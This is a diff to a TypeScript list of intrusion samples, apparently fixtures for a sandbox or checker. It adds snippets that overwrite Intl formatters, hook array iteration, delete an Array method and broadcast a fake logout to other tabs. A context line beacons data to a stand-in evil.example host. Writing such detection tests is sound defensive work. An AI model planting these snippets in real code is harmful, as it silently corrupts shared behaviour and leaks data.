@@ -82,6 +82,49 @@ export const intrusionKinds: readonly Kind[] = [
     }),
   },
   {
+    name: 'replaces Intl’s numbers',
+    wrong: 'replaces how all code writes amounts',
+    files: [],
+    run: ['intrinsic'],
+    spoil: code({
+      module: 'const[it]=[Intl];it.NumberFormat=function(){return{format:()=>"0"}}',
+    }),
+  },
+  {
+    name: 'patches Intl’s dates',
+    wrong: 'replaces a member of Intl that has no name of its own',
+    files: [],
+    run: ['intrinsic'],
+    spoil: code({
+      module:
+        'const[it]=[Intl];Object.defineProperty(it.DateTimeFormat.prototype,"format",{get(){return()=>"never"},configurable:true})',
+    }),
+  },
+  {
+    name: 'replaces Intl',
+    wrong: 'replaces the whole of Intl',
+    files: [],
+    run: ['intrinsic'],
+    spoil: code({ module: 'const[all]=[globalThis];all.Intl={...Intl,NumberFormat:Intl.NumberFormat}' }),
+  },
+  {
+    name: 'patches iterators',
+    wrong: 'replaces how all lists are walked through',
+    files: [],
+    run: ['intrinsic'],
+    spoil: code({
+      module:
+        'const[one]=[Object.getPrototypeOf([][Symbol.iterator]())],next=one.next;one.next=function(){return next.call(this)}',
+    }),
+  },
+  {
+    name: 'removes a function',
+    wrong: 'removes a method of all lists',
+    files: [],
+    run: ['intrinsic'],
+    spoil: code({ module: 'const[all]=[Array.prototype];delete all.findLastIndex' }),
+  },
+  {
     name: 'adds to Object.prototype',
     wrong: 'gives every object a property',
     files: ['intrinsic'],
@@ -192,6 +235,16 @@ export const intrusionKinds: readonly Kind[] = [
     files: ['foreign-origin'],
     run: ['foreign-origin'],
     spoil: code({ effect: 'navigator.sendBeacon("https://evil.example/","t")' }),
+  },
+  {
+    name: 'broadcast',
+    wrong: 'speaks to the other tabs of the player',
+    files: [],
+    run: ['shell-access'],
+    spoil: code({
+      effect: 'const all=new BroadcastChannel("marquee");all.postMessage({type:"logout"});const end=()=>all.close()',
+      leave: 'end()',
+    }),
   },
   {
     name: 'socket',
